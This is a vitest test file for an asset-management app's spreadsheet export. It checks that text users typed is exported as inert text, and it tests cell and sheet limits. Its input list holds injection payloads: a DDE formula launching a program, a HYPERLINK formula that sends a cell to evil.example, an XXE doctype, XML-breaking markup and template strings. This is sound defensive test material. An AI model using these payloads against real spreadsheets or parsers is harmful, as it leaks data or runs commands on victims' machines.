import { describe, expect, test } from 'vitest'
import { sql } from '../../host/api/db/sql.ts'
import { workbook, type WorksheetColumn } from '../../host/api/spreadsheet/worksheet.ts'
import { testApi } from '../support/api.ts'
import { column, exported, readWorkbook, unzip } from '../support/spreadsheet.ts'

/** Texts that a user may type. `cellText` is the text of the exported cell if it differs from `typed`. */
const texts: [name: string, typed: string, cellText?: string][] = [
  ['a formula', '=1+1'],
  ['a formula that calls a program', `=cmd|' /C calc'!A0`],
  ['a link that leaks a cell', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
  ['a plus', '+1+1'],
  ['a minus', '-1-1'],
  ['an at sign', '@SUM(1,1)'],
  ['a leading tab', '\t=1+1'],
  ['a leading line break', '\n=1+1'],
  ['a leading carriage return', '\r=1+1', '\n=1+1'],
  ['a fullwidth equals sign', '＝1+1'],
  ['an apostrophe', "'=1+1"],
  ['a number', '24031907'],
  ['a number with leading zeros', '0012'],
  ['a large number', '12345678901234567890'],
  ['a date', '2024-03-05'],
  ['a boolean', 'TRUE'],
  ['an error', '#REF!'],
  ['markup', '<script>alert(1)</script> & <b>"x"</b>'],
  ['the end of a section', ']]></t></is></c><c r="B2"><f>1+1</f></c>'],
  ['entities', '&lt;&#10;&amp;amp;&nbsp;'],
  ['a doctype', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/secret">]>&e;'],
  ['an escape of spreadsheets', '_x0041__x000D_ _x005F_ _X0041_ _x41_'],
  ['forbidden characters', 'a\u0001b\u0008c\u000Bd\u001Fe\uFFFEf\uFFFFg\u007Fh', 'abcdefg\u007Fh'],
  ['line breaks of three operating systems', 'a\nb\r\nc\rd', 'a\nb\nc\nd'],
  ['leading and trailing spaces', '  x  '],
  ['emoji', '👩🏽‍💻 🏳️‍🌈 é ﷽'],
  ['right to left', '\u202Eevil\u202C שלום مرحبا'],
  ['invisible characters', 'a\u200Bb\uFEFFc\u00ADd'],
  ['Devanagari', 'लैपटॉप'],
  ['a template', '{{7*7}}${7*7}%s%n'],
  ['a percent sign and wildcards', '%_\\%'],
]

const api = testApi()

/** Columns of free text; `nameColumns` are the columns with names of referenced records. */
const textColumns = ['ID', 'Description', 'OS', 'Manufacturer', 'Vendor', 'MAC Address', 'Remarks']
const nameColumns = ['Category', 'Place', 'Location', 'User']

describe('text that users typed is exported unchanged as text', () => {
  test.each(texts)('EXP-02 HARD-01 %s', async (_name, text, cellText = text) => {
    const id = await insertNamed(text)
    const { sheet, bytes } = await exported(api, `/api/v1/export-asset?all=true&id[]=${id}`)
    for (const header of [...textColumns, ...nameColumns]) {
      const cell = sheet?.rows[0]?.[header]
      expect([header, cell?.value, cell?.isText]).toEqual([header, cellText, true])
      expect([header, cell?.isFormula]).toEqual([header, false])
    }
    const xml = unzip(bytes).get('xl/worksheets/sheet1.xml') ?? ''
    expect(xml).not.toMatch(/<f[ >]/)
    expect(xml.match(/<c /g)).toHaveLength(headerCount(xml) + cellCount(sheet?.rows[0]))
  })
})

const headerCount = (xml: string) => (xml.match(/r="[A-Z]+1"/g) ?? []).length
const cellCount = (row: object | undefined) => Object.keys(row ?? {}).length

/** Inserts an asset, a user, a place, a location and a category that are all named `text`. Returns the ID of the asset. */
async function insertNamed(text: string): Promise<number> {
  return api.db.transaction(async (tx) => {
    const email = `x${Math.random()}@example.com`
    const category = await tx.one<{ id: number }>(sql`
      insert into categories (name, display_name, manager) values (${email}, ${text}, 'system_admin') returning id`)
    const place = await tx.one<{ id: number }>(
      sql`insert into places (name, display_name) values (${email}, ${text}) returning id`,
    )
    const location = await tx.one<{ id: number }>(sql`
      insert into locations (place_id, name, display_name) values (${place.id}, ${email}, ${text}) returning id`)
    const user = await tx.one<{ id: number }>(sql`
      insert into users (username, email, role_id) values (${text}, ${email}, 3) returning id`)
    const asset = await tx.one<{ id: number }>(sql`
      insert into assets (serial_number, description, os, manufacturer, vendor, mac_address, remarks, status,
        labelled, manager, category_id, place_id, location_id, assigned_to)
      values (${text}, ${text}, ${text}, ${text}, ${text}, ${text}, ${text}, 'in_use', 'yes', 'system_admin',
        ${category.id}, ${place.id}, ${location.id}, ${user.id}) returning id`)
    return asset.id
  })
}

test('EXP-02 the longest texts and the largest numbers that can be stored are exported unchanged', async () => {
  const longText = `${'😀'.repeat(2499)}x`
  const { id } = await api.db.one<{ id: number }>(sql`
    insert into assets (description, remarks, quantity, watt, payment_date, warranty, cost_in_usd, status, labelled,
      manager, category_id, place_id)
    values (${longText}, ${longText}, 9999999999.99, 0, '1970-01-01', '2200-12-31', 10000000, 'sold', 'na', 'system_admin', 1, 1)
    returning id`)
  const { sheet } = await exported(api, `/api/v1/export-asset?all=true&id[]=${id}`)
  const row = sheet?.rows[0]
  expect(row?.['Description']?.value).toBe(longText)
  expect(row?.['Remarks']?.value).toBe(longText)
  expect(row?.['Quantity']?.value).toBe(9_999_999_999.99)
  expect(row?.['Watts']?.value).toBe(0)
  expect(row?.['Item Cost (USD)']?.shown).toBe('1,00,00,000')
  expect(row?.['Date of Payment']).toMatchObject({ shown: '01-01-1970', isText: false })
  expect(row?.['Warranty Expires']).toMatchObject({ shown: '31-12-2200', isText: false })
})

/** Writes a workbook with a column of row numbers and a column of `values`, and reads it back. */
async function writeWorkbook(
  values: (string | number | null)[],
  limits?: { rows: number; bytes: number },
) {
  const valueColumn: WorksheetColumn<string | number | null> = {
    header: 'Only',
    kind: 'text',
    width: 10,
    value: (value) => value,
  }
  const numberColumn: WorksheetColumn<string | number | null> = {
    header: 'No',
    kind: 'number',
    width: 10,
    value: (_value, number) => number,
  }
  const batches = async function* () {
    for (let at = 0; at < values.length; at += 3) yield values.slice(at, at + 3)
  }
  const chunks: Buffer[] = []
  for await (const chunk of workbook(
    [{ sheet: { name: 'Book', columns: [numberColumn, valueColumn] }, batches: batches() }],
    limits,
  ))
    chunks.push(chunk)
  const bytes = Buffer.concat(chunks)
  return { bytes, ...readWorkbook(bytes) }
}

describe('the limits of a spreadsheet', () => {
  test('a cell holds 32,767 characters; a longer text is cut with an ellipsis and never inside a character', async () => {
    const fits = 'x'.repeat(32_767)
    const { sheets } = await writeWorkbook([fits, `${fits}x`, `${'x'.repeat(32_765)}😀😀`])
    expect(column(sheets[0], 'Only')).toEqual([
      fits,
      `${'x'.repeat(32_766)}…`,
      `${'x'.repeat(32_765)}…`,
    ])
  })

  test('rows that do not fit into a sheet continue in the next sheet under the same headers', async () => {
    const { sheets, bytes } = await writeWorkbook(['a', 'b', 'c', 'd', 'e', 'f', 'g'], {
      rows: 4,
      bytes: 1e9,
    })
    expect(sheets.map(({ name }) => name)).toEqual(['Book', 'Book 2', 'Book 3'])
    expect(sheets.map((sheet) => column(sheet, 'Only'))).toEqual([
      ['a', 'b', 'c'],
      ['d', 'e', 'f'],
      ['g'],
    ])
    expect(sheets.flatMap((sheet) => column(sheet, 'No'))).toEqual([
      '1',
      '2',
      '3',
      '4',
      '5',
      '6',
      '7',
    ])
    expect(sheets.map(({ headers }) => headers)).toEqual(sheets.map(() => ['No', 'Only']))
    expect(sheets.map(({ filtered }) => filtered)).toEqual(['A1:B4', 'A1:B4', 'A1:B2'])
    expect([...unzip(bytes).keys()]).toContain('xl/worksheets/sheet3.xml')
  })

  test('no empty sheet follows a full one; a limit of bytes also starts a new sheet', async () => {
    expect((await writeWorkbook(['a', 'b', 'c'], { rows: 4, bytes: 1e9 })).sheets).toHaveLength(1)
    const { sheets } = await writeWorkbook(['a', 'b', 'c', 'd', 'e'], { rows: 1000, bytes: 10 })
    expect(sheets.map((sheet) => column(sheet, 'Only'))).toEqual([
      ['a', 'b', 'c'],
      ['d', 'e'],
    ])
  })

  test('an export without rows is a valid workbook', async () => {
    const { sheets, bytes } = await writeWorkbook([])
    expect(sheets[0]).toMatchObject({ headers: ['No', 'Only'], rows: [], filtered: 'A1:B1' })
    expect(unzip(bytes).size).toBe(6)
  })
})
